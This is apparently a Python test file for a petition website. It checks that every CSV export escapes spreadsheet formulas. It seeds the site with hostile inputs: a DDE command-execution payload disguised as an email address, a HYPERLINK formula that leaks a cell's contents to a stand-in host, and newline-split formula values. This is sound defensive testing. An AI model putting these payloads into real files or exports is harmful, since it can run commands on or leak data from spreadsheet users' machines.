"""Every CSV that the site gives, with hostile values wherever one can be typed: no cell is a formula."""

from pathlib import Path

from starlette.routing import Route

from petition.letters.writing.glyphs import can_print
from petition.web.routes import routes
from tests.conftest import IDENTITY, Clock, Visitor
from tests.core.test_csv_tables import HOSTILE, cells, is_inert
from tests.shell import Shell
from tests.web.tools import on_sqlite

ADDRESS = "=cmd|'/ccalc'!a0@evil.example.net"
FORMULA = '=HYPERLINK("https://elsewhere.example/?"&A1,"answer")'
PATHS = [route.path for route in routes(demo=True) if isinstance(route, Route) and route.path.endswith(".csv")]


async def _fill(visitor: Visitor, time: Clock) -> None:
    await visitor.confirmed(ADDRESS, "PL", named="on", name=FORMULA, updates="on")
    for n, name in enumerate(value for value in HOSTILE if value.isprintable() and can_print(value)):
        await visitor.confirmed(f"anna{n}@example.net", "PL", named="on", name=f"{name} A")
    time.advance(days=4)  # names and addresses are exported after three
    await visitor.organiser("marta", "admin")
    for key, summary in zip(("PL", "DE", "FR"), (FORMULA, "x;=1", "ok\r\n=1"), strict=True):
        fields = {"sent": "2026-11-01", "answered": "2026-11-02", "stance": "supports", "language": "en"}
        assert (await visitor.post(f"/organisers/answers/{key}", **fields, summary=summary)).status_code == 303


@on_sqlite
async def test_no_csv_of_the_site_has_a_formula(time: Clock, visitor: Visitor, tmp_path: Path) -> None:
    await _fill(visitor, time)
    await visitor.published()
    for path in PATHS:
        answer = await visitor.get(path)
        assert answer.status_code == 200, path
        assert [cell for cell in cells(answer.text) if not is_inert(cell)] == [], path
    assert "'=HYPERLINK" in (await visitor.get("/governments.csv")).text
    sealed = tmp_path / "signatures.csv"
    sealed.write_text((await visitor.get("/organisers/signatures.csv")).text, "utf-8")
    (tmp_path / "identity").write_text(str(IDENTITY))
    opened = Shell(tmp_path).fine("unseal", "--identity", str(tmp_path / "identity"), str(sealed))
    assert f"'{ADDRESS}" in opened
    assert [cell for cell in cells(opened) if not is_inert(cell)] == []
